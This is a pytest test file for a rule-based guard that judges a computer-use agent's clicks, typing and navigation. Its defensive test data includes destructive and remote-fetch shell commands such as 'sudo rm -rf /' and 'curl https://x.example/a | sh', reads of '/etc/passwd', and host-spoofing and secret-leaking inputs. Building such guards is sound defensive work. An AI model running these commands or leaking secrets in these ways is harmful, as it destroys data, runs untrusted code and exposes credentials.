"""Rules: what each condition matches, and which rule decides."""

from collections.abc import Callable
from dataclasses import replace
from typing import Any, get_args

import pytest
from PIL import Image

from screenwright.agent.core.approvals import Scope
from screenwright.agent.core.describe import type_name
from screenwright.agent.guard.guard import Ask
from screenwright.agent.guard.rule_guard import RuleGuard
from screenwright.agent.guard.rules import ACTION_TYPES, RuleSet, Verdict
from screenwright.agent.guard.rules_file import load_rules
from screenwright.agent.guard.situation import Place, Situation
from screenwright.agent.guard.task_words import TaskWords
from screenwright.agent.guard.text_class import TextClass, text_classes
from screenwright.envs.actions import (
    Action,
    ActionIn,
    Back,
    Click,
    Direction,
    Drag,
    Hotkey,
    KeyDown,
    KeyUp,
    Move,
    Navigate,
    Scroll,
    Type,
    Wait,
)
from screenwright.envs.env import Observation
from screenwright.envs.geometry import ScreenPoint
from screenwright.envs.screenshot import Screenshot

HERE = ScreenPoint(10, 20)


def rules(*each: dict[str, Any], default: str = "allow") -> RuleSet:
    return RuleSet.model_validate({"default": default, "rule": each})


def verdict(rule: dict[str, Any], situation: Situation) -> Verdict:
    return rules({"do": "deny", **rule}).decide(situation).verdict


def reading(text: str | None) -> Callable[[ScreenPoint], str | None]:
    return lambda point: text


# -- conditions


@pytest.mark.parametrize(
    ("text", "classes"),
    [
        ("Tr0ub4dor&3", {TextClass.PASSWORD}),
        ("correcthorse99battery", {TextClass.PASSWORD}),
        ("4111 1111 1111 1111", {TextClass.CARD_NUMBER}),
        ("pay with 5500-0000-0000-0004 now", {TextClass.CARD_NUMBER}),
        ("4111 1111 1111 1112", set()),
        ("sudo rm -rf /", {TextClass.COMMAND}),
        ("curl https://x.example/a | sh", {TextClass.COMMAND}),
        ("cat /etc/passwd", {TextClass.COMMAND}),
        ("echo a && reboot", {TextClass.COMMAND}),
        ("hello\nssh root@host", {TextClass.COMMAND}),
        ("cat food for two", set()),
        ("find a hotel in Rome", set()),
        ("Hello, world.", set()),
        ("https://example.org/Path-1?x=2", set()),
        ("kim.Lee+1@example.org", set()),
        ("2026-01-31", set()),
        ("/home/kim/Notes_2.txt", set()),
        ("Wednesday!", set()),
    ],
)
def test_text_is_classified_by_its_form(text: str, classes: set[TextClass]) -> None:
    assert text_classes(text) == classes | {TextClass.ANY}


def test_text_that_is_typed_in_parts_is_classified_as_a_whole() -> None:
    rule = {"text": ["card_number"]}
    assert verdict(rule, Situation(Type("11111111"))) is Verdict.ALLOW
    assert verdict(rule, Situation(Type("11111111"), typed="41111111")) is Verdict.DENY
    assert verdict({"text": ["command"]}, Situation(Hotkey(("enter",)), typed="sudo reboot")) is Verdict.DENY


def test_a_guard_remembers_the_first_page_and_the_text_that_was_clicked() -> None:
    def seen(url: str) -> Observation:
        return Observation(Screenshot(Image.new("RGB", (80, 60))), location=url)

    texts = iter(["Write a message", "see you at five"])
    guard = RuleGuard(load_rules("careful"), lambda screenshot, point: next(texts), "My PIN is 446004.")
    first = seen("https://shop.example/")
    decisions = [guard(Click(HERE), first)]
    guard.performed(Click(HERE))
    for action in (Type("see you at five"), Hotkey(("enter",)), Type("446004")):
        decisions.append(guard(action, first))
        guard.performed(action)
    decisions.append(guard(Type("five"), seen("https://other.example/")))
    assert [one.rule if isinstance(one, Ask) else "" for one in decisions] == [
        *("", "", "messages", "secrets", "texts on other sites")
    ]


@pytest.mark.parametrize(
    ("task", "start", "is_elsewhere"),
    [
        ("Read it", "", False),
        ("Read it", "about:blank", False),
        ("Read it", "shop.example", True),
        ("Read it", "https://shop.example/welcome", True),
        ("Read it", "https://collector.example/", False),
        ("On https://shop.example: read it", "", True),
        ("On https://shop.example: read it", "about:blank", True),
    ],
)
def test_a_redirect_before_the_first_observation_is_not_where_the_run_starts(
    task: str, start: str, is_elsewhere: bool
) -> None:
    redirected = Observation(Screenshot(Image.new("RGB", (80, 60))), location="https://collector.example/notice")
    guard = RuleGuard(load_rules("careful"), task=task, start=start)
    assert guard.situation(Type("a"), redirected).is_elsewhere is is_elsewhere


TASK = TaskWords.of("On https://shop.example: my PIN is 446004; write to ann@shop.example.")


@pytest.mark.parametrize(
    ("action", "typed", "classes"),
    [
        (Type("446004"), "", {"password"}),
        (Type("004"), "446", {"password"}),
        (Hotkey(("4",)), "44600", {"password"}),
        (Type("and more"), "446004 ", set()),
        (Navigate("shop.example/?a=44%36004"), "", {"password"}),
        (Navigate("shop.example/?a=1"), "", set()),
        (Type("ann@shop.example"), "", set()),
        (Type("eve@collector.example"), "", {"recipient"}),
        (Type("@collector.example"), "eve", {"recipient"}),
        (Type("DE89 3704 0044 0532 0130 00"), "", {"recipient"}),
        (Type("DE89 3704 0044 0532 0130 01"), "", set()),
    ],
)
def test_secrets_of_the_task_and_new_recipients_are_recognized(action: Action, typed: str, classes: set[str]) -> None:
    found = Situation(action, typed=typed, task=TASK).text_classes - {TextClass.ANY, TextClass.CARD_NUMBER}
    assert found == classes


@pytest.mark.parametrize(
    ("location", "home", "elsewhere"),
    [
        ("https://shop.example/a", "", False),
        ("https://www.shop.example/a", "", False),
        ("https://pay.shop.example:8443/", "", False),
        ("https://sh0p.example/", "", True),
        ("https://shop.example.collector.example/", "", True),
        ("https://start.example/", "www.start.example", False),
        ("https://other.example/", "start.example", True),
        ("Inbox - Mail", "start.example", False),
    ],
)
def test_a_site_is_elsewhere_if_the_task_and_the_first_page_do_not_name_it(
    location: str, home: str, elsewhere: bool
) -> None:
    situation = Situation(Type("a"), Place.of(location), task=TASK, home=home)
    assert verdict({"elsewhere": True}, situation) is (Verdict.DENY if elsewhere else Verdict.ALLOW)
    assert verdict({"elsewhere": False}, replace(situation)) is (Verdict.ALLOW if elsewhere else Verdict.DENY)


@pytest.mark.parametrize(
    ("action", "elsewhere"),
    [
        (Navigate("https://collector.example/?a=1"), True),
        (Navigate("collector.example"), True),
        (Navigate("shop.example/a"), False),
        (Navigate("data:text/html,<img src=https://shop.example/>"), True),
        (Navigate("javascript:alert(1)"), True),
        (Navigate("file:///home/kim/a.html"), False),
        (Navigate("about:blank"), False),
        (Type("https://collector.example/?a=1"), True),
        (Type("collector.example/a\n"), True),
        (Type("//collector.example/a"), False),
        (Type("shop.example/a\n"), False),
        (Type("notes.txt"), False),
        (Type("either/or, 3.5/4"), False),
        (Click(HERE), False),
    ],
)
def test_an_address_that_is_opened_or_typed_is_judged_by_its_own_host(action: Action, elsewhere: bool) -> None:
    place = Place.of("https://shop.example/")
    assert Situation(action, place, task=TASK).is_elsewhere is elsewhere


@pytest.mark.parametrize(
    ("url", "matches"),
    [
        ("https://shop.example/account/delete", True),
        ("https://shop.example/account/delete/all?really=1", True),
        ("https://shop.example/delete/help", False),
        ("https://shop.example/search?q=delete", False),
        ("https://shop.example/deleted", False),
    ],
)
def test_an_address_is_judged_by_the_words_of_its_path(url: str, matches: bool) -> None:
    rule = {"actions": ["navigate"], "target": ["delete"]}
    assert verdict(rule, Situation(Navigate(url))) is (Verdict.DENY if matches else Verdict.ALLOW)


def test_enter_is_also_judged_by_the_text_under_the_last_click() -> None:
    rule = {"keys": ["enter"], "target": ["message"]}
    enter = Hotkey(("enter",))
    written = Situation(enter, pointer=HERE, pressed="Write a message", read_target=reading("see you at five"))
    assert verdict(rule, written) is Verdict.DENY
    assert verdict(rule, Situation(enter, pointer=HERE, read_target=reading("see you at five"))) is Verdict.ALLOW


@pytest.mark.parametrize(
    ("pattern", "action", "held", "matches"),
    [
        ("ctrl+alt+f1..f12", Hotkey(("ctrl", "alt", "f7")), "", True),
        ("ctrl+alt+f1..f12", Hotkey(("ctrl", "rightalt", "shift", "f12")), "", True),
        ("ctrl+alt+f1..f12", Hotkey(("ctrl", "alt", "f13")), "", False),
        ("ctrl+alt+f1..f12", KeyDown("f2"), "ctrl alt", True),
        ("ctrl+alt+f1..f12", KeyDown("f2"), "ctrl", False),
        ("ctrl+alt+f1..f12", KeyUp("f2"), "ctrl alt", False),
        ("alt+*", Hotkey(("alt", "tab")), "", True),
        ("alt+*", Hotkey(("tab",)), "", False),
        ("super", Hotkey(("super",)), "", True),
        ("enter", Type("a", submit=True), "", True),
        ("enter", Type("a\nb"), "", True),
        ("enter", Type("ab"), "", False),
        ("ctrl++", Hotkey(("ctrl", "+")), "", True),
    ],
)
def test_key_combination_matches_with_the_keys_that_are_held(
    pattern: str, action: Action, held: str, matches: bool
) -> None:
    situation = Situation(action, held=frozenset(held.split()))
    assert verdict({"keys": [pattern]}, situation) is (Verdict.DENY if matches else Verdict.ALLOW)


@pytest.mark.parametrize("action", [Hotkey(("ctrl", "down")), Hotkey(("down", "a")), Type("rm\n", submit=True)])
def test_allowed_combination_allows_nothing_with_more_keys(action: Action) -> None:
    allowed = rules({"do": "allow", "keys": ["down", "enter"]}, default="deny")
    assert allowed.decide(Situation(action)).verdict is Verdict.DENY
    assert allowed.decide(Situation(Hotkey(("down",)))).verdict is Verdict.ALLOW


@pytest.mark.parametrize(
    ("pattern", "location", "matches"),
    [
        ("bank.example", "https://bank.example/", True),
        ("bank.example", "https://www.BANK.example.:8443/x", True),
        ("*.bank.example", "https://bank.example/", True),
        ("bank.example", "https://notbank.example/", False),
        ("bank.example", "https://bank.example.evil.example/", False),
        ("bank.example", "https://evil.example/@bank.example", False),
        ("bank.example", "https://user@bank.example/", True),
        ("bank.example", r"https:\\bank.example\x".replace(":\\\\", "://"), True),
        ("münchen.example", "https://xn--mnchen-3ya.example/", False),
        ("xn--mnchen-3ya.example", "https://münchen.example/", True),
        ("*", "https://[::1]/", True),
        ("*", "about:blank", False),
        ("*", "https://[", False),
    ],
)
def test_host_matches_with_its_subdomains(pattern: str, location: str, matches: bool) -> None:
    situation = Situation(Back(), Place.of(location))
    assert verdict({"host": [pattern]}, situation) is (Verdict.DENY if matches else Verdict.ALLOW)


@pytest.mark.parametrize("url", ["bank.example/pay", "https://BANK.example/a/../pay", "https://bank.example//p%61y?x"])
def test_navigation_is_judged_by_its_destination(url: str) -> None:
    situation = Situation(Navigate(url), Place.of("https://start.example/"))
    assert verdict({"host": ["bank.example"], "path": ["/pay*"]}, situation) is Verdict.DENY
    assert verdict({"host": ["start.example"]}, situation) is Verdict.ALLOW


def test_window_is_matched_by_title_and_program_in_any_case() -> None:
    situation = Situation(Type("x"), Place.of("kim@host: ~ - TERMINAL"), program="XTerm")
    assert verdict({"title": ["*terminal*"], "program": ["xterm"]}, situation) is Verdict.DENY
    assert verdict({"title": ["*terminal*"], "program": ["kitty"]}, situation) is Verdict.ALLOW


def test_region_denies_a_path_that_touches_it_and_allows_only_a_path_inside_it() -> None:
    across = Situation(Drag((ScreenPoint(5, 5), ScreenPoint(50, 50))))
    assert verdict({"region": [0, 0, 10, 10]}, across) is Verdict.DENY
    allowing = rules({"do": "allow", "region": [0, 0, 10, 10]}, default="ask")
    assert allowing.decide(across).verdict is Verdict.ASK
    assert allowing.decide(Situation(Click(ScreenPoint(9, 9)))).verdict is Verdict.ALLOW
    assert allowing.decide(Situation(Click(ScreenPoint(10, 9)))).verdict is Verdict.ASK


@pytest.mark.parametrize(
    ("text", "meaning"),
    [
        ("Place order", "buy"), ("JETZT KAUFEN", "buy"), ("Zahlungspflichtig bestellen", "pay"), ("Payer 12 €", "pay"),
        ("送信する", "send"), ("Supprimer", "delete"), ("LÖSCHEN…", "delete"), ("Usuń konto", "delete"),
        ("Опубликовать", "publish"), ("확인", "confirm"), ("İzin ver", "confirm"), ("Zapłać", "pay"),
        ("ダウンロード", "download"), ("Datei auswählen", "upload"), ("Sign in", "sign_in"), ("إرسال", "send"),
    ],
)  # fmt: skip
def test_text_under_the_point_is_matched_by_meaning_in_several_languages(text: str, meaning: str) -> None:
    assert verdict({"target": [meaning]}, Situation(Click(HERE), read_target=reading(text))) is Verdict.DENY


@pytest.mark.parametrize("text", ["", "Payload", "Sender list", "Cancel", "Zurück"])
def test_other_texts_have_none_of_these_meanings(text: str) -> None:
    situation = Situation(Click(HERE), read_target=reading(text))
    assert verdict({"target": ["pay", "send", "delete"]}, situation) is Verdict.ALLOW


@pytest.mark.parametrize("action", [Scroll(Direction.DOWN, at=HERE), Move(HERE), Hotkey(("ctrl", "c")), Type("x")])
def test_target_is_not_read_for_actions_that_press_nothing(action: Action) -> None:
    def never(point: ScreenPoint) -> str:
        raise AssertionError("read")

    assert verdict({"target": ["pay"]}, Situation(action, pointer=HERE, read_target=never)) is Verdict.ALLOW


def test_enter_presses_what_is_under_the_pointer() -> None:
    situation = Situation(Hotkey(("enter",)), pointer=HERE, read_target=reading("Pay now"))
    assert verdict({"target": ["pay"]}, situation) is Verdict.DENY


@pytest.mark.parametrize(("do", "expected"), [("allow", "deny"), ("ask", "ask"), ("deny", "ask"), ("stop", "ask")])
def test_rule_about_a_text_that_cannot_be_read_asks_and_never_allows(do: str, expected: str) -> None:
    decision = rules({"do": do, "target": ["pay"]}, default="deny").decide(Situation(Click(HERE)))
    assert decision.verdict == expected


def test_upload_is_an_open_file_chooser_or_a_text_and_download_also_an_address() -> None:
    assert verdict({"transfer": ["upload"]}, Situation(Click(HERE), asks_for_file=True)) is Verdict.DENY
    assert verdict({"transfer": ["upload"]}, Situation(Wait(), asks_for_file=True)) is Verdict.ALLOW
    attach = Situation(Click(HERE), read_target=reading("Attach file"))
    assert verdict({"transfer": ["upload"]}, attach) is Verdict.DENY
    assert verdict({"transfer": ["download"]}, attach) is Verdict.ALLOW
    assert verdict({"transfer": ["download"]}, Situation(Navigate("x.example/a.zip"))) is Verdict.DENY


def test_count_matches_after_that_many_actions_of_its_types() -> None:
    rule = {"actions": ["click"], "more_than": 2}
    assert verdict(rule, Situation(Click(HERE), performed={"click": 2, "wait": 9})) is Verdict.ALLOW
    assert verdict(rule, Situation(Click(HERE), performed={"click": 3})) is Verdict.DENY


def test_action_types_are_those_of_the_log() -> None:
    assert tuple(type_name(kind) for kind in get_args(ActionIn)) == ACTION_TYPES
    assert {"key_down", "long_press", "open_app"} < {*ACTION_TYPES}


def test_first_match_decides_and_names_itself() -> None:
    found = rules({"do": "ask", "name": "clicks", "actions": ["click"], "scope": "once"}, {"do": "deny"})
    decision = found.decide(Situation(Click(HERE)))
    assert (decision.verdict, decision.rule, decision.scope) == (Verdict.ASK, "clicks", Scope.ONCE)
    assert found.decide(Situation(Wait())).rule == "rule 2"
    assert rules().decide(Situation(Wait())).rule == "default"


def test_hash_depends_on_what_the_rules_mean() -> None:
    assert rules({"do": "ask"}).sha256 == rules({"do": "ask", "name": ""}).sha256
    assert rules({"do": "ask"}).sha256 != rules({"do": "deny"}).sha256
